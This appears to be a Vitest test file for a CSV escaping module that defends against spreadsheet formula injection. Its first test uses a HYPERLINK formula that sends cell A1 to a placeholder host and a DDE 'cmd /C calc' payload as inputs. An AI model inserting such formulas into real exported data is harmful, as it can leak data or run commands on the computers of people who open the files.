import { describe, expect, it } from 'vitest';
import { csvCell, neutralise, unneutralise } from './csv-cell';

describe('formula neutralisation (OWASP CSV injection)', () => {
  it('prefixes a single quote to text beginning with = + - @ tab or carriage return', () => {
    expect(neutralise('=HYPERLINK("http://x"&A1,"y")')).toBe(`'=HYPERLINK("http://x"&A1,"y")`);
    expect(neutralise("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(neutralise('-2')).toBe("'-2");
    expect(neutralise('@SUM(1)')).toBe("'@SUM(1)");
    expect(neutralise('\tx')).toBe("'\tx");
    expect(neutralise('\rx')).toBe("'\rx");
    expect(neutralise('plain = text')).toBe('plain = text');
    expect(neutralise("'quoted")).toBe("'quoted");
  });
  it('unneutralise removes the quote only before a formula start', () => {
    expect(unneutralise("'=1+1")).toBe('=1+1');
    expect(unneutralise("'@x")).toBe('@x');
    expect(unneutralise("'quoted")).toBe("'quoted");
    expect(unneutralise("'")).toBe("'");
    expect(unneutralise('=1')).toBe('=1');
  });
  it('csvCell neutralises text (not numbers) and quotes commas, quotes, line breaks and edge spaces', () => {
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('=A1,"b"')).toBe(`"'=A1,""b"""`);
    expect(csvCell('\r\n')).toBe(`"'\r\n"`);
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(' x')).toBe('" x"');
    expect(csvCell(null)).toBe('');
  });
});
